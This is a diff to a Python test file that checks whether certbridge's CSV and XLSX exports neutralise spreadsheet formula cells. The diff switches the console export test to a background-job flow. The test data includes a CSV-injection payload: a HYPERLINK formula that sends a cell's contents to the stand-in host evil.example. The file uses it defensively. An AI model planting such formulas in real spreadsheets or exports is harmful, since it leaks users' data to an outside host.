@@ -1,11 +1,12 @@
 """Exports never carry a live formula: CSV cells that a spreadsheet would evaluate get an apostrophe, XLSX cells
-are explicit strings — in `certbridge export` and `/cb/export.xlsx` — and our own CSV export re-imports unchanged."""
+are explicit strings — in `certbridge export` and the console's export (a background job) — and our own CSV export re-imports unchanged."""
 
 from __future__ import annotations
 
 import csv
 import io
 import random
+import re
 import zipfile
 
 from openpyxl import load_workbook
@@ -13,7 +14,7 @@ from typer.testing import CliRunner
 
 from certbridge.cli.main import app as cli_app
 from certbridge.kit.uscc import generate_uscc
-from tests.web.conftest import sign_in
+from tests.web.conftest import follow_job, post_form, sign_in
 from tests.world import certificate_payload
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -75,6 +76,7 @@ def test_cli_csv_export_neutralizes_formula_cells_and_reimports_unchanged(client
 def test_console_xlsx_export_writes_text_never_formulas(client, world):
     _issue_evil(client, world)
     assert sign_in(client, "cb_a").status_code == 303
-    r = client.get("/cb/export.xlsx")
+    page = follow_job(client, post_form(client, "/cb", "/cb/export"))
+    r = client.get(re.search(r'href="(/jobs/\d+/file)"', page.text).group(1))
     assert r.status_code == 200
     _no_formula_in(r.content, {"holder_name": EVIL_NAME, "scope": EVIL_SCOPE})
